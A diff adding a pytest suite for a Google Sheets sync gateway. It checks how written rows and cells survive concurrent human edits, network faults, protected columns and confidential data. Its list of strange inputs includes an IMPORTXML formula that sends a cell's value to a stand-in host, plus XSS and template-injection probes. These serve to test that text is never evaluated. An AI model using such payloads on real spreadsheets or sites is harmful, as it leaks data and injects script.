@@ -1,0 +1,374 @@
+"""Rows and cells written beside people who write too, over real HTTP (design sections 3 and 4)."""
+
+from __future__ import annotations
+
+import string
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from itn_sync.domain.actions import WriteRow
+from itn_sync.domain.privacy import Confidential
+from itn_sync.domain.seen import Cell
+from itn_sync.gateways import sheet_writes
+from itn_sync.gateways.cells import Json
+from itn_sync.gateways.errors import Refused
+from itn_sync.gateways.sheets import Snapshot, Spreadsheet
+from tests.gateways.sheets_office import TAB, Office, offices, row
+
+STRANGE = (
+    '=IMPORTXML("http://exemple.test/?"&A1;"//a")',
+    "+32470123456",
+    "-1+1",
+    "@SUM(A1)",
+    "'apostrophe",
+    "7,5",
+    "007",
+    "1/09/2026",
+    "VRAI",
+    "👩🏽‍🎓 Zoë",
+    "שלום نادية",
+    "<script>alert(1)</script>",
+    "{{ 7*7 }}",
+    "deux\nlignes",
+    " ",
+    "x" * 10_000,
+)
+
+
+@pytest.fixture(scope="module")
+def new_office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[], Office]]:
+    with offices(tmp_path_factory.mktemp("sheets")) as new:
+        yield new
+
+
+@pytest.fixture
+def office(new_office: Callable[[], Office]) -> Office:
+    return new_office()
+
+
+@pytest.fixture
+def spreadsheet(office: Office) -> Spreadsheet:
+    """Set up, with two rows that people have begun to fill in."""
+    spreadsheet = office.ready()
+    spreadsheet.append({TAB: [row("D-1", name="Nadia"), row("D-2", name="Émile")]}, 1)
+    office.type("Suivi!E2", "appelée lundi")
+    office.type("Suivi!E3", "absent")
+    return spreadsheet
+
+
+def span(dimension: str, start: int, end: int) -> Json:
+    """Rows or columns [start, end) of TAB."""
+    place = {"sheetId": TAB.sheet_id, "dimension": dimension}
+    return {"range": place | {"startIndex": start, "endIndex": end}}
+
+
+def insert_column(office: Office) -> None:
+    office.batch({"insertDimension": span("COLUMNS", 1, 2)})
+    office.type("Suivi!B1", "À nous")
+    office.type("Suivi!B2", "notre note")
+
+
+def insert_column_before_the_first(office: Office) -> None:
+    office.batch({"insertDimension": span("COLUMNS", 0, 1)})
+    office.type("Suivi!A1", "À nous")
+
+
+def move_a_column(office: Office) -> None:
+    source = span("COLUMNS", 4, 5)["range"]
+    office.batch({"moveDimension": {"source": source, "destinationIndex": 0}})
+
+
+def delete_an_own_column(office: Office) -> None:
+    office.batch({"deleteDimension": span("COLUMNS", 2, 3)})
+
+
+def rename_a_heading(office: Office) -> None:
+    office.type("Suivi!B1", "Étudiant ou étudiante")
+
+
+def insert_a_row(office: Office) -> None:
+    office.batch({"insertDimension": span("ROWS", 1, 2)})
+
+
+def sort_backwards(office: Office) -> None:
+    area = {"sheetId": TAB.sheet_id, "startRowIndex": 1, "startColumnIndex": 0}
+    specs = [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]
+    office.batch({"sortRange": {"range": area, "sortSpecs": specs}})
+
+
+def move_the_tab(office: Office) -> None:
+    properties = {"sheetId": TAB.sheet_id, "index": 0, "title": "Ailleurs"}
+    office.batch({"updateSheetProperties": {"properties": properties, "fields": "index,title"}})
+    properties |= {"title": "Suivi"}
+    office.batch({"updateSheetProperties": {"properties": properties, "fields": "title"}})
+
+
+MEANWHILE = (
+    insert_column,
+    insert_column_before_the_first,
+    move_a_column,
+    delete_an_own_column,
+    rename_a_heading,
+    insert_a_row,
+    sort_backwards,
+    move_the_tab,
+)
+Act = Callable[[Office], None]
+
+
+def people_s_cells(office: Office) -> dict[str, list[Any]]:
+    """What people see in their columns, by dossier."""
+    notes = zip(office.column("Dossier"), office.column("Remarques"), strict=True)
+    return {identity: [note] for identity, note in notes if identity in ("D-1", "D-2")}
+
+
+@pytest.mark.parametrize("act", MEANWHILE)
+def test_a_new_row_stands_right_whatever_people_did_since_the_reading(
+    office: Office, spreadsheet: Spreadsheet, act: Act
+) -> None:
+    spreadsheet.read()
+    act(office)
+    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès", due=46_280)]}, 2)
+    added = snapshot.tables["suivi"].rows["D-3"]
+    wanted = {"id": "D-3", "name": "Inès", "due": 46_280, "status": "À contacter"}
+    layout = snapshot.layouts["suivi"]
+    assert added.cells == {k: v for k, v in wanted.items() if k in layout.columns}
+    assert added.number == layout.last_row
+    assert people_s_cells(office) == {"D-1": ["appelée lundi"], "D-2": ["absent"]}
+    if "À nous" in office.rows()[0]:
+        assert office.column("À nous") == ["notre note" if act is insert_column else "", "", ""]
+
+
+def written(spreadsheet: Spreadsheet, stale: Snapshot, cells: dict[str, Cell]) -> Snapshot:
+    """What the lead does: write by a reading that may be stale, read back, repair."""
+    spreadsheet.update({TAB: {"D-1": cells}}, stale)
+    for _ in range(3):
+        snapshot = spreadsheet.read()
+        spreadsheet.update(
+            {TAB: {"D-1": cells, "D-2": {"name": "Émile", "due": None}}},
+            snapshot,
+        )
+    return snapshot
+
+
+@pytest.mark.parametrize("act", MEANWHILE)
+def test_a_change_lands_in_its_column_and_its_row_in_the_end(
+    office: Office, spreadsheet: Spreadsheet, act: Act
+) -> None:
+    stale = spreadsheet.read()
+    act(office)
+    rows = written(spreadsheet, stale, {"name": "Nadia B.", "due": 46_280}).tables["suivi"].rows
+    assert rows["D-1"].text("name") == "Nadia B."
+    assert rows["D-2"].text("name") == "Émile"
+    assert people_s_cells(office) == {"D-1": ["appelée lundi"], "D-2": ["absent"]}
+    if "À nous" in office.rows()[0]:
+        assert office.column("À nous")[:2] == ["notre note" if act is insert_column else "", ""]
+
+
+def test_rows_deleted_meanwhile_do_not_stop_a_change(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    office.batch({"deleteDimension": span("ROWS", 3, 1000)})
+    spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
+    stale = spreadsheet.read()
+    office.batch({"deleteDimension": span("ROWS", 1, 2)})
+    spreadsheet.update({TAB: {"D-3": {"name": "Inès B."}, "D-1": {"name": "?"}}}, stale)
+    assert office.column("Étudiant") == ["Émile", "Inès B."]
+
+
+def test_one_change_is_one_call_whose_other_cells_stay(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    snapshot = spreadsheet.read()
+    office.calls()
+    spreadsheet.update({TAB: {"D-1": {"due": 46_280}, "D-2": {"name": None}}}, snapshot)
+    assert office.calls() == {"sheets.spreadsheets.values.batchUpdateByDataFilter": 1}
+    assert office.column("Étudiant") == ["Nadia", ""]
+    assert office.column("Avant le") == [46_280, ""]
+
+
+def test_nothing_to_change_is_no_call(office: Office, spreadsheet: Spreadsheet) -> None:
+    snapshot = spreadsheet.read()
+    office.calls()
+    spreadsheet.update({}, snapshot)
+    spreadsheet.update({TAB: {"D-1": {}, "D-404": {"name": "?"}}}, snapshot)
+    assert office.calls() == {}
+
+
+def test_a_large_change_is_cut_and_arrives_whole(
+    office: Office, spreadsheet: Spreadsheet, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sheet_writes, "LARGEST_BODY", 3_000)
+    names = {f"D-{n}": string.ascii_letters * 3 + str(n) for n in range(3, 60)}
+    snapshot = spreadsheet.append({TAB: [row(identity) for identity in names]}, 2)
+    office.calls()
+    spreadsheet.update({TAB: {i: {"name": n, "due": 1} for i, n in names.items()}}, snapshot)
+    assert office.calls()["sheets.spreadsheets.values.batchUpdateByDataFilter"] > 3
+    assert office.column("Étudiant")[2:] == list(names.values())
+    assert office.column("Avant le")[2:] == [1] * 57
+
+
+def test_text_is_stored_as_typed_and_never_works(office: Office, spreadsheet: Spreadsheet) -> None:
+    texts = {f"T-{n}": text for n, text in enumerate(STRANGE)}
+    wanted = [row(identity, name=text) for identity, text in texts.items()]
+    snapshot = spreadsheet.append({TAB: wanted}, 2)
+    spreadsheet.update({TAB: {i: {"due": text} for i, text in texts.items()}}, snapshot)
+    rows = spreadsheet.read().tables["suivi"].rows
+    assert {i: rows[i].cells["name"] for i in texts} == texts
+    assert {i: rows[i].cells["due"] for i in texts} == texts
+    assert "formulaValue" not in str(office.get(includeGridData=True)["sheets"])
+
+
+def test_people_s_columns_are_never_written_to(spreadsheet: Spreadsheet) -> None:
+    with pytest.raises(ValueError, match="belongs to people"):
+        spreadsheet.update({TAB: {"D-1": {"status": "Clos"}}}, spreadsheet.read())
+
+
+def test_health_text_never_reaches_a_shared_tab(office: Office, spreadsheet: Spreadsheet) -> None:
+    secret = Confidential("un tiers-temps")
+    with pytest.raises(ValueError, match="confidential"):
+        spreadsheet.append({TAB: [row("D-3", name=secret)]}, 2)
+    with pytest.raises(ValueError, match="confidential"):
+        spreadsheet.update({TAB: {"D-1": {"name": secret}}}, spreadsheet.read())
+    assert "tiers-temps" not in str(office.rows())
+
+
+@pytest.mark.parametrize(
+    "trouble",
+    [
+        {"drop": "after"},
+        {"drop": "before"},
+        {"truncate": True},
+        {"status": 503},
+        {"status": 503, "when": "after"},
+        {"status": 429, "times": 5},
+        {"status": 429, "retryAfter": "7"},
+        {"html": True},
+    ],
+)
+def test_whatever_happens_on_the_line_a_row_is_added_once(
+    office: Office, spreadsheet: Spreadsheet, trouble: dict[str, Any]
+) -> None:
+    spreadsheet.read()
+    office.trouble(method="sheets.spreadsheets.batchUpdate", **trouble)
+    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
+    assert list(snapshot.tables["suivi"].rows) == ["D-1", "D-2", "D-3"]
+    assert office.column("Dossier") == ["D-1", "D-2", "D-3"]
+    assert office.waits
+
+
+def test_a_row_added_and_sorted_away_before_the_answer_got_lost_is_still_once(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    other = office.spreadsheet()
+    other.append({TAB: [row("D-3", name="Inès")]}, 2)
+    sort_backwards(office)
+    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
+    assert office.column("Dossier") == ["D-3", "D-2", "D-1"]
+    assert list(snapshot.tables["suivi"].rows) == ["D-3", "D-2", "D-1"]
+
+
+@pytest.mark.parametrize("trouble", [{"drop": "after"}, {"status": 429, "times": 4}])
+def test_whatever_happens_on_the_line_a_change_is_made(
+    office: Office, spreadsheet: Spreadsheet, trouble: dict[str, Any]
+) -> None:
+    snapshot = spreadsheet.read()
+    office.trouble(method="sheets.spreadsheets.values.*", **trouble)
+    spreadsheet.update({TAB: {"D-1": {"name": "Nadia B."}}}, snapshot)
+    assert office.column("Étudiant") == ["Nadia B.", "Émile"]
+
+
+def test_an_operation_number_used_for_something_else_is_refused(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    with pytest.raises(Refused):
+        spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 1)
+    assert office.column("Dossier") == ["D-1", "D-2"]
+
+
+def test_a_cell_that_is_too_long_is_refused_and_nothing_is_added(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    with pytest.raises(Refused) as refusal:
+        spreadsheet.append({TAB: [row("D-3"), row("D-4", name="x" * 50_001)]}, 2)
+    assert refusal.value.status == 400
+    with pytest.raises(Refused):
+        spreadsheet.update({TAB: {"D-1": {"name": "x" * 50_001}}}, spreadsheet.read())
+    assert office.column("Dossier") == ["D-1", "D-2"]
+
+
+def test_a_tab_deleted_meanwhile_is_refused(office: Office, spreadsheet: Spreadsheet) -> None:
+    office.batch({"deleteSheet": {"sheetId": TAB.sheet_id}})
+    with pytest.raises(Refused):
+        spreadsheet.append({TAB: [row("D-3")]}, 2)
+
+
+def test_an_append_still_works_where_google_would_not_let_marks_be_held(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    office.trouble(method="sheets.spreadsheets.batchUpdate", status=400)
+    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
+    assert list(snapshot.tables["suivi"].rows) == ["D-1", "D-2", "D-3"]
+
+
+def test_old_operations_are_forgotten_and_the_latest_kept(spreadsheet: Spreadsheet) -> None:
+    assert spreadsheet.read().operations == {1}
+    spreadsheet.append({TAB: [row("D-3")]}, 2)
+    assert spreadsheet.append({TAB: [row("D-4")]}, 3, expired=[1, 2, 999]).operations == {3}
+
+
+def test_an_append_is_one_call(office: Office, spreadsheet: Spreadsheet) -> None:
+    spreadsheet.read()
+    office.calls()
+    spreadsheet.append({TAB: [row("D-3")]}, 2)
+    assert office.calls() == {"sheets.spreadsheets.batchUpdate": 1}
+
+
+def test_rows_beyond_the_grid_look_and_check_like_the_others(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    office.batch({"deleteDimension": span("ROWS", 3, 1000)})
+    spreadsheet.read()
+    spreadsheet.append({TAB: [row("D-3", name="Inès", due=46_280)]}, 2)
+    cells = office.get(ranges="Suivi!A3:E4", includeGridData=True)["sheets"][0]["data"][0]
+    old, new = (line["values"] for line in cells["rowData"])
+    assert new[2]["formattedValue"] == "15/09/2026"
+    for before, after in zip(old, new, strict=True):
+        assert after["userEnteredFormat"] == before["userEnteredFormat"]
+        assert after.get("dataValidation") == before.get("dataValidation")
+
+
+def test_rules_that_people_put_on_their_own_column_stay(
+    office: Office, spreadsheet: Spreadsheet
+) -> None:
+    insert_column(office)
+    area = {"sheetId": TAB.sheet_id, "startColumnIndex": 1, "endColumnIndex": 2}
+    rule = {"condition": {"type": "BOOLEAN"}}
+    office.batch({"setDataValidation": {"range": area | {"startRowIndex": 1}, "rule": rule}})
+    spreadsheet.append({TAB: [row("D-3")]}, 2)
+    cells = office.get(ranges="Suivi!B4", includeGridData=True)["sheets"][0]["data"][0]
+    assert cells["rowData"][0]["values"][0]["dataValidation"] == rule
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    cell=st.one_of(
+        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
+        st.integers(-(10**9), 10**9),
+        st.booleans(),
+    )
+)
+def test_any_cell_comes_back_as_it_was_written(spreadsheet: Spreadsheet, cell: Cell) -> None:
+    spreadsheet.update({TAB: {"D-1": {"name": cell}}}, spreadsheet.read())
+    found = spreadsheet.read().tables["suivi"].rows["D-1"].cells.get("name")
+    assert found == (None if cell == "" else cell)
+    assert isinstance(found, str) == (isinstance(cell, str) and cell != "")
+
+
+def test_a_row_wish_needs_no_cell_at_all(spreadsheet: Spreadsheet) -> None:
+    bare = WriteRow(TAB.key, "D-3", {}, "parce que")
+    assert spreadsheet.append({TAB: [bare]}, 2).tables["suivi"].rows["D-3"].cells == {"id": "D-3"}
